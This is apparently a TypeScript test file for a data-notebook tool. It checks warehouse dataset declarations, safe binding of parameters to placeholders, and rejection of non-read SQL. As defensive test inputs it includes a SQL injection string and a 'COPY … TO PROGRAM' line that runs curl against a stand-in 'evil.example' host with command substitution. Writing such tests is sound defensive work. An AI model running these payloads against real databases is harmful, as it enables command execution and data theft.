/**
 * Warehouse declarations (core/notebook/warehouse.ts): the front matter's `warehouse:`, connection
 * names that are never URLs, `${param}` → `$n` binding with the values beside the text, and the
 * mapping of the warehouse's error position back to the query as written.
 */
import { describe, expect, it } from 'vitest';
import { declaredDatasets, warehouseDeclarationProblems } from '../../../src/core/notebook/datasets.ts';
import { parseNotebook } from '../../../src/core/notebook/format.ts';
import { ParamError } from '../../../src/core/notebook/params.ts';
import { bindWarehouseQuery, connectionEnvVar, lineColumn, writtenOffset } from '../../../src/core/notebook/warehouse.ts';
import { cells } from '../../../src/core/notebook/model.ts';
import { sqlCell } from '../../../src/core/cells/sql.ts';
import { buildGraph } from '../../../src/core/notebook/graph.ts';

const nb = (fm: string, body = '') => parseNotebook(`---\npulse: 1\n${fm}\n---\n${body}`);

describe('warehouse declarations', () => {
  it('reads a dataset declared with warehouse: { connection, query }', () => {
    const n = nb('datasets:\n  ev:\n    schema: events\n    warehouse: { connection: analytics, query: "SELECT * FROM events WHERE campaign <> ${exclude}" }');
    expect(declaredDatasets(n)).toEqual([{ name: 'ev', schema: 'events', warehouse: { connection: 'analytics', query: 'SELECT * FROM events WHERE campaign <> ${exclude}' } }]);
    expect(warehouseDeclarationProblems(n)).toEqual([]);
  });

  it('says what is wrong with a malformed declaration', () => {
    expect(warehouseDeclarationProblems(nb('datasets:\n  ev: { warehouse: "postgres://u:p@h/db" }'))).toEqual(['dataset `ev`: `warehouse:` must be { connection: NAME, query: "SELECT …" }']);
    expect(warehouseDeclarationProblems(nb('datasets:\n  ev: { warehouse: { connection: "db.example.com:5432", query: "SELECT 1" } }'))[0]).toMatch(
      /connection `db.example.com:5432` looks like a URL or a host: a notebook names a connection .* PULSE_CONN_ANALYTICS/,
    );
    expect(warehouseDeclarationProblems(nb('datasets:\n  ev: { warehouse: { connection: analytics } }'))).toEqual(['dataset `ev`: `warehouse:` needs query: "SELECT …" (the warehouse\'s own SQL)']);
    expect(warehouseDeclarationProblems(nb('datasets:\n  ev: { warehouse: { connection: analytics, query: "SELECT 1", password: x } }'))).toEqual([
      'dataset `ev`: `warehouse:` has unknown key password: it takes connection and query',
    ]);
  });

  it('names the environment variable of a connection', () => {
    expect(connectionEnvVar('analytics')).toBe('PULSE_CONN_ANALYTICS');
    expect(connectionEnvVar('eu-redshift.2')).toBe('PULSE_CONN_EU_REDSHIFT_2');
  });

  it('binds ${param} as $n placeholders with the values beside the text, one slot per parameter', () => {
    const params = new Map<string, unknown>([
      ['exclude', "c1' OR '1'='1"],
      ['min', 5],
      ['since', { date: '2024-02-01' }],
      ['channels', ['email', 'social']],
    ]) as never;
    const b = bindWarehouseQuery('SELECT * FROM e WHERE c <> ${exclude} AND cost > ${min} AND ts >= ${since} AND ch = ANY(${channels}) OR c = ${exclude}', params);
    expect(b.text).toBe('SELECT * FROM e WHERE c <> $1 AND cost > $2 AND ts >= $3 AND ch = ANY($4) OR c = $1');
    expect(b.values).toEqual(["c1' OR '1'='1", 5, '2024-02-01', ['email', 'social']]);
  });

  it('refuses ${…} inside quotes, a positional $1, and an unknown parameter, at their offsets', () => {
    const params = new Map([['c', 'x']]) as never;
    expect(() => bindWarehouseQuery("SELECT '${c}'", params)).toThrow(/\$\{c\} is inside quotes/);
    expect(() => bindWarehouseQuery('SELECT * FROM t WHERE a = $1', params)).toThrow(/positional placeholder \$1/);
    try {
      bindWarehouseQuery('SELECT ${nope}', params);
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(ParamError);
      expect((e as ParamError).offset).toBe(7);
    }
    // A $$-quoted body and a $tag$ string are strings, not placeholders.
    expect(bindWarehouseQuery('SELECT $$a$$ || $x$b$x$', params).text).toBe('SELECT $$a$$ || $x$b$x$');
  });

  it('refuses a warehouse query that is not one read: COPY … TO PROGRAM, DO, SET, COMMIT, CALL, a second statement', () => {
    const params = new Map() as never;
    for (const [q, at] of [
      ["COPY (SELECT 1) TO PROGRAM 'curl https://evil.example/$(id)'", 0],
      ["DO $$ BEGIN PERFORM pg_sleep(1); END $$", 0],
      ['SET TRANSACTION READ WRITE', 0],
      ['COMMIT', 0],
      ['CALL refresh_everything()', 0],
      ['-- a comment first\nCOPY t TO STDOUT', 19],
      ['(DELETE FROM t)', 1],
    ] as const) {
      try {
        bindWarehouseQuery(q, params);
        expect.unreachable(q);
      } catch (e) {
        expect(e, q).toBeInstanceOf(ParamError);
        expect((e as ParamError).message).toMatch(/a warehouse query reads only: it starts with SELECT, WITH, VALUES or TABLE, not `\w+`/);
        expect((e as ParamError).offset, q).toBe(at);
      }
    }
    expect(() => bindWarehouseQuery('SELECT 1; COMMIT', params)).toThrow(/a warehouse query is one statement/);
    expect(() => bindWarehouseQuery('   ', params)).toThrow(/the warehouse query is empty/);
    // reads pass, with a trailing semicolon too
    for (const q of ['SELECT 1;', 'WITH a AS (SELECT 1) SELECT * FROM a', '(SELECT 1) UNION (SELECT 2)', 'VALUES (1)', 'TABLE events', 'select 1']) {
      expect(bindWarehouseQuery(q, params).text, q).toBe(q);
    }
  });

  it("maps the warehouse's 1-based error position back to the written query", () => {
    const query = 'SELECT a\n  FROM t WHERE c = ${campaign}\n  AND nosuch > 1';
    const b = bindWarehouseQuery(query, new Map([['campaign', 'c1']]) as never);
    const sent = b.text.indexOf('nosuch') + 1;
    const offset = writtenOffset(b, sent);
    expect(query.slice(offset, offset + 6)).toBe('nosuch');
    expect(lineColumn(query, offset)).toEqual({ line: 3, column: 7 });
  });

  it("leaves a warehouse cell's tables to the warehouse and says where to get its result without one", async () => {
    const n = nb('title: t', '```sql agg warehouse=analytics\nSELECT campaign, count(*) FROM events GROUP BY 1\n```\n');
    const cell = cells(n)[0]!;
    expect(sqlCell.references!(cell)).toEqual({ tables: [], params: [] });
    const engine = { describe: async () => null } as never;
    await expect(sqlCell.run({ cell, engine, params: new Map(), previewRows: 10, notebookCells: [cell], notebook: n } as never)).rejects.toThrow(
      /runs on the warehouse connection `analytics`, which only the command line reaches: run the notebook with `pulse run`, or open the bundle `pulse pull NOTEBOOK --out FILE.pulse.zip` writes/,
    );
  });

  it('lets a warehouse cell find its pulled table under its own name (a bundle), which a local cell may not', () => {
    const n = nb('title: t', '```sql agg warehouse=analytics\nSELECT 1\n```\n\n```sql local\nSELECT * FROM agg\n```\n');
    const g = buildGraph(n, { datasets: ['agg'] });
    expect(g.nodes.get('agg')!.error).toBeUndefined();
    expect(g.nodes.get('local')!.deps).toEqual(['agg']);
    const clash = buildGraph(nb('title: t', '```sql agg\nSELECT 1\n```\n'), { datasets: ['agg'] });
    expect(clash.nodes.get('agg')!.error).toBe('cell id `agg` is also the name of a dataset: rename the cell');
  });
});
